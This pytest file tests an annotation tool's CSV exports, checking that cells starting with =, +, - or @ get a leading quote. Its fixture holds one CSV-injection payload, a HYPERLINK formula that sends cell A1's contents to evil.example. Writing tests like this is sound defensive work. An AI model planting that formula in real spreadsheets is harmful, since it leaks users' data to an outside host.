"""Every CSV the project writes follows one rule: a text cell that a spreadsheet would run
as a formula gets a leading quote; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from annotator.cli import main
from annotator.core.spreadsheet import FORMULA_STARTS, cell, safe, unsafe

LABEL = '=HYPERLINK("http://evil.example/?"&A1)'
DOC = "=1+1"
TEXT = "+sham election in the city, -critics said"


@pytest.fixture
def hostile(tmp_path, write_jsonl, capsys):
    """Labels, annotators, a reviewer, a document id and text that start formulas."""
    spans = [("@alice", 0, 5, LABEL), ("-bob", 0, 5, LABEL), ("-bob", 6, 14, "Political"),
             ("@alice", 28, 35, "Political")]
    data = write_jsonl({"id": DOC, "text": TEXT,
                        "annotations": [{"annotator": a, "start": s, "end": e, "label": lab}
                                        for a, s, e, lab in spans],
                        "status": {"@alice": "done", "-bob": "done"}})
    db = tmp_path / "p.db"
    assert main(["init", str(db)]) == 0
    assert main(["import", str(db), str(data), "--add-labels"]) == 0
    assert main(["adjudicate", str(db), "--auto", "majority", "--reviewer", "=dana"]) == 0
    capsys.readouterr()
    return db


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            if value.startswith(FORMULA_STARTS):
                float(value)  # only a number may start with "-" or "+"


def written(tmp_path, capsys, *args) -> list[list[str]]:
    out = tmp_path / "out.csv"
    assert main([*map(str, args), "-o", str(out)]) == 0, capsys.readouterr().err
    return rows_of(out.read_text(encoding="utf-8"))


def test_the_agreement_csv_quotes_labels_names_and_ids(hostile, tmp_path, capsys):
    rows = written(tmp_path, capsys, "agreement", hostile, "--bootstrap", "0")
    assert_no_formula(rows)
    labels = {unsafe(r[1]) for r in rows[1:] if r[0] == "label"}
    assert LABEL in labels
    pairs = {(unsafe(r[2]), unsafe(r[3])) for r in rows[1:] if r[0] == "pair"}
    assert pairs == {("-bob", "@alice")}
    assert {unsafe(r[2]) for r in rows[1:] if r[0] == "document"} == {DOC}
    kappa = next(r for r in rows if r[0] == "pair" and r[4] == "cohen_kappa")
    assert -1 <= float(kappa[5]) <= 1  # a number, unquoted


def test_the_agreement_csv_on_standard_output_follows_the_rule(hostile, capsys):
    assert main(["agreement", str(hostile), "-o", "-", "--bootstrap", "0", "-f", "csv"]) == 0
    rows = rows_of(capsys.readouterr().out)
    assert_no_formula(rows)
    assert any(r[1] == safe(LABEL) for r in rows)


@pytest.fixture
def decisions(hostile, tmp_path, capsys):
    out = tmp_path / "decisions.csv"
    assert main(["adjudicate", str(hostile), "--decisions-csv", str(out)]) == 0
    capsys.readouterr()
    return rows_of(out.read_text(encoding="utf-8"))


def test_the_decisions_csv_quotes_every_text_cell(decisions):
    header, *rows = decisions
    assert_no_formula(decisions)
    row = dict(zip(header, rows[0], strict=True))
    assert unsafe(row["document"]) == DOC and unsafe(row["reviewer"]) == "=dana"
    assert unsafe(row["label"]) == LABEL and unsafe(row["text"]) == TEXT[:5]
    assert unsafe(row["annotators"]) == "-bob;@alice"
    assert (row["start"], row["end"]) == ("0", "5")


def test_the_span_csv_export_follows_the_same_rule(hostile, tmp_path, capsys):
    rows = written(tmp_path, capsys, "export", hostile, "-f", "csv", "--layer",
                   "annotations")
    assert_no_formula(rows)
    assert {unsafe(r[6]) for r in rows[1:]} == {LABEL, "Political"}


def test_the_comparison_csv_follows_the_same_rule(hostile, tmp_path, capsys):
    rows = written(tmp_path, capsys, "compare", hostile, "-f", "csv")
    assert_no_formula(rows)
    assert {unsafe(r[2]) for r in rows[1:] if r[0] == "labels_by_source"} == {DOC}
    assert LABEL in {unsafe(r[4]) for r in rows[1:] if r[0] == "labels_by_source"}


def test_the_rule_goes_by_type():
    assert [cell(v) for v in (-0.25, 3, None, True, "-0.25", "=A1", "'x", "plain")] == [
        -0.25, 3, "", 1, "'-0.25", "'=A1", "''x", "plain"]
